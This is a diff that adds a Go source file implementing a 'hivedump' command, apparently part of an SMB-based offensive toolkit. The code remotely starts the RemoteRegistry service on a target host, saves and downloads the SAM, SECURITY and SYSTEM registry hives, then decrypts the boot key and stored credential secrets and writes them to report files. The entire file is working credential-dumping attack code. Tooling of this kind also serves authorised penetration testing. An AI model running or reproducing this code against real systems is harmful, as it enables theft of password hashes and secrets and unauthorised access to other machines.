@@ -0,0 +1,157 @@
+package main
+
+import (
+	"encoding/json"
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+
+	"github.com/ericblavier/go-smb/hive"
+)
+
+// Hives below HKLM that can be saved, e.g. SAM or SOFTWARE
+var hiveName = regexp.MustCompile(`^[A-Za-z0-9_]+$`)
+
+// Record of a saved hive printed in JSON mode
+type hiveRecord struct {
+	Hive string `json:"hive"`
+	File string `json:"file"`
+	Size int    `json:"size"`
+}
+
+// parseHiveList parses a comma separated list of hive names
+func parseHiveList(list string) (names []string, err error) {
+	seen := make(map[string]bool)
+	for _, name := range strings.Split(list, ",") {
+		name = strings.ToUpper(strings.TrimSpace(name))
+		if !hiveName.MatchString(name) {
+			return nil, fmt.Errorf("Invalid hive %s", name)
+		}
+		if !seen[name] {
+			seen[name] = true
+			names = append(names, name)
+		}
+	}
+	return
+}
+
+// hiveReport decrypts the secrets of the saved hives and writes them to the
+// output directory as report.txt and as one JSON record per line to
+// secrets.json
+func hiveReport(dir string, hives map[string]*hive.Hive) error {
+	if hives["SYSTEM"] == nil {
+		return fmt.Errorf("The SYSTEM hive is required to decrypt the SAM and SECURITY hives")
+	}
+	// Secrets decrypted before an error are still reported
+	bootKey, sets, decryptErr := decryptHives(hives["SYSTEM"], hives["SAM"], hives["SECURITY"])
+	if bootKey == nil {
+		return decryptErr
+	}
+
+	report, err := os.Create(filepath.Join(dir, "report.txt"))
+	if err != nil {
+		return err
+	}
+	defer report.Close()
+	records, err := os.Create(filepath.Join(dir, "secrets.json"))
+	if err != nil {
+		return err
+	}
+	defer records.Close()
+	enc := json.NewEncoder(records)
+
+	fmt.Fprintf(report, "[*] Target system bootKey: 0x%x\n", bootKey)
+	for _, set := range sets {
+		writeSecrets(report, set)
+		for _, record := range set.records {
+			if err = enc.Encode(record); err != nil {
+				return err
+			}
+		}
+	}
+	if decryptErr != nil {
+		fmt.Fprintf(report, "[-] %s\n", decryptErr)
+	}
+	return decryptErr
+}
+
+func runHivedump(args []string) error {
+	fs := flag.NewFlagSet("hivedump", flag.ExitOnError)
+	hiveList := fs.String("hives", "SAM,SECURITY,SYSTEM", "Comma separated hives below HKLM to save")
+	output := fs.String("o", "", "Output directory, <host>-hives by default")
+	noParse := fs.Bool("no-parse", false, "Only save the hives without decrypting their secrets")
+	fs.Parse(args)
+	if fs.NArg() != 1 {
+		return fmt.Errorf("Usage: hivedump [-hives list] [-o dir] [-no-parse] <host>")
+	}
+	host := fs.Arg(0)
+	names, err := parseHiveList(*hiveList)
+	if err != nil {
+		return err
+	}
+	dir := *output
+	if dir == "" {
+		dir = host + "-hives"
+	}
+	if err = os.MkdirAll(dir, 0700); err != nil {
+		return err
+	}
+
+	conn, err := connect(host)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	restore, err := startRemoteRegistry(conn)
+	if err != nil {
+		return fmt.Errorf("Failed to start the %s service: %s", remoteRegistryService, err)
+	}
+	defer restore()
+	client, err := bindRegistry(conn)
+	if err != nil {
+		return err
+	}
+
+	// The hives are saved to the temp directory of the host, downloaded and
+	// deleted there by SaveHive
+	hives := make(map[string]*hive.Hive)
+	failed := 0
+	for _, name := range names {
+		data, err := saveHive(conn, client, `HKLM\`+name)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "Failed to save the %s hive: %s\n", name, err)
+			failed++
+			continue
+		}
+		file := filepath.Join(dir, name+".hive")
+		if err = os.WriteFile(file, data, 0600); err != nil {
+			return err
+		}
+		if *jsonOutput {
+			emit(hiveRecord{Hive: name, File: file, Size: len(data)})
+		} else {
+			fmt.Printf("[*] Saved HKLM\\%s to %s (%d bytes)\n", name, file, len(data))
+		}
+		if h, err := hive.Open(data); err != nil {
+			fmt.Fprintf(os.Stderr, "Failed to parse the %s hive: %s\n", name, err)
+		} else {
+			hives[name] = h
+		}
+	}
+
+	if !*noParse && (hives["SAM"] != nil || hives["SECURITY"] != nil) {
+		if err = hiveReport(dir, hives); err != nil {
+			return err
+		}
+		if !*jsonOutput {
+			fmt.Printf("[*] Wrote the decrypted secrets to %s and %s\n", filepath.Join(dir, "report.txt"), filepath.Join(dir, "secrets.json"))
+		}
+	}
+	if failed > 0 {
+		return fmt.Errorf("%d hives could not be saved", failed)
+	}
+	return nil
+}